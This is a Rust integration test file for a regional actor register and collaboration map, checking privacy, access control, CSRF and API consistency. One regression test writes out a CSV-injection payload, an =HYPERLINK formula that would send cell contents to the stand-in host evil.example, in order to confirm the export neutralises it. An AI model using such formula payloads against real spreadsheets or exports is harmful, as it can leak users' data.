//! The network feature (`src/network`): the register of regional actors
//! with its proposals, and the collaboration map with its links.

mod common;

use common::{anonymous, App};
use serde_json::{json, Value};

fn edges(map: &Value) -> usize {
    map["edges"].as_array().map_or(0, Vec::len)
}

/// The public register lists the demo's actors without private people's
/// names; a signed-in viewer sees the contact person.
async fn register_hides_contact_people_from_the_public(app: &App) {
    let anon = anonymous();
    let list = app.page(&anon, "/actors").await;
    assert!(list.contains("MLL:n Tuiran paikallisyhdistys"));
    assert!(!list.contains("Maija Esimerkki"), "a private person's name");
    let page = app.page(&anon, "/actors/mll-tuira").await;
    assert!(page.contains("tuira@mll.example") && !page.contains("Maija Esimerkki"));
    assert_eq!(app.get(&anon, "/actors/no-such-actor").await.status(), 404);
    let viewer = app.login("katselija@oulu.example").await;
    assert!(app
        .page(&viewer, "/actors/mll-tuira")
        .await
        .contains("Maija Esimerkki"));
}

/// MLL's own people propose a change to MLL's entry (303) but not to
/// Kela's (403), and not without the CSRF token (403); the proposal changes
/// nothing public until it is approved.
async fn proposals_by_the_actors_own_people(app: &App) {
    let mll = app.login("mll.tuira@oulu.example").await;
    let hours = "ti ja to 9–12";
    let proposal = [
        ("offer", "Perhekahvila ja vertaisryhmät"),
        ("opening_hours", hours),
        ("languages", "fi;en"),
        ("website", "https://www.mll.fi/"),
        ("email", "tuira@mll.example"),
    ];
    let r = app
        .post_without_csrf(&mll, "/actors/mll-tuira/propose", &proposal)
        .await;
    assert_eq!(r.status(), 403);
    let r = app.post(&mll, "/actors/kela-oulu/propose", &proposal).await;
    assert_eq!(r.status(), 403, "not Kela's staff");
    let r = app.post(&mll, "/actors/mll-tuira/propose", &proposal).await;
    assert_eq!(r.status(), 303);
    assert!(
        !app.page(&anonymous(), "/actors/mll-tuira")
            .await
            .contains(hours),
        "pending until the area's manager approves"
    );
    let manager = app.login("aluepaallikko.keskinen@oulu.example").await;
    assert!(app
        .page(&manager, "/actors/mll-tuira")
        .await
        .contains("/actors/mll-tuira/proposals/"));
}

/// The map page draws the same nodes and links the API gives; a sector
/// filter keeps the matching actor and its partners only.
async fn map_page_and_api_agree(app: &App) {
    let map = app.api(None, "/api/v1/network").await;
    let nodes = map["nodes"].as_array().map_or(0, Vec::len);
    assert!(nodes >= 8, "{map}");
    let page = app.page(&anonymous(), "/network").await;
    assert_eq!(page.matches("<g class=\"node ").count(), nodes);
    assert_eq!(page.matches("<line class=\"edge ").count(), edges(&map));
    let parish = app.api(None, "/api/v1/network?sector=parish").await;
    let matched: Vec<&str> = parish["nodes"]
        .as_array()
        .expect("nodes")
        .iter()
        .filter(|n| n["matched"] == true)
        .filter_map(|n| n["code"].as_str())
        .collect();
    assert_eq!(matched, ["tuiran-seurakunta"]);
}

/// A viewer may not enter a collaboration through the API (403); the
/// area's manager enters one through the map's form (303) and the API then
/// has one link more; the same again is a conflict (409, issue 16 keeps
/// conflicts 409), named on the page, and adds nothing.
async fn manager_adds_a_link(app: &App) {
    let before = edges(&app.api(None, "/api/v1/network").await);
    let viewer = app.api_token("katselija@oulu.example").await;
    let r = anonymous()
        .post(app.url("/api/v1/network/links"))
        .bearer_auth(&viewer)
        .json(&json!({"from": "kela-oulu", "to": "mll-tuira", "kind": "referral"}))
        .send()
        .await
        .expect("POST link");
    assert_eq!(r.status(), 403);
    assert_eq!(edges(&app.api(None, "/api/v1/network").await), before);

    let manager = app.login("aluepaallikko.keskinen@oulu.example").await;
    let form = [
        ("from", "kela-oulu"),
        ("to", "mll-tuira"),
        ("kind", "referral"),
        ("note", "Etuusneuvonta"),
    ];
    let r = app.post(&manager, "/network/links", &form).await;
    assert_eq!(r.status(), 303);
    assert_eq!(edges(&app.api(None, "/api/v1/network").await), before + 1);
    let r = app.post(&manager, "/network/links", &form).await;
    assert_eq!(r.status(), 409);
    assert!(r.text().await.expect("map page").contains("jo kirjattu"));
    assert_eq!(edges(&app.api(None, "/api/v1/network").await), before + 1);
}

/// Issue 17's CSV injection, as the attacker did it: an area manager's
/// import gives an actor the offer `=HYPERLINK(…)`. The public CSV export
/// used to carry it as a formula; now the cell is text (`'=…`), as is a
/// phone number beginning with `+`, while the XLSX export keeps plain text.
async fn exported_csv_cells_are_never_formulas(app: &App) {
    let keskinen = app.login("aluepaallikko.keskinen@oulu.example").await;
    let csrf = app.csrf(&keskinen, "/actors").await;
    let offer = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Avaa\")";
    let csv = format!(
        "code;name;sector;areas;offer;phone\nkerho-hyokkays;Kerho;third_sector;tuira;\"{}\";+358 40 123 4567\n",
        offer.replace('"', "\"\"")
    );
    let form = reqwest::multipart::Form::new().text("csrf", csrf).part(
        "file",
        reqwest::multipart::Part::bytes(csv.into_bytes()).file_name("toimijat.csv"),
    );
    let r = keskinen
        .post(app.url("/actors/import"))
        .multipart(form)
        .send()
        .await
        .expect("import");
    assert_eq!(r.status(), 303, "{}", r.text().await.unwrap_or_default());
    let export = app.page(&anonymous(), "/actors/export?format=csv").await;
    let line = export
        .lines()
        .find(|l| l.starts_with("kerho-hyokkays;"))
        .expect("the imported actor in the export");
    assert!(
        line.contains("'=HYPERLINK(") && line.contains(";'+358 40 123 4567"),
        "{line}"
    );
    assert!(!line.contains(";=") && !line.contains(";\"="), "{line}");
}

on_both_databases!(
    exported_csv_cells_are_never_formulas,
    register_hides_contact_people_from_the_public,
    proposals_by_the_actors_own_people,
    map_page_and_api_agree,
    manager_adds_a_link
);
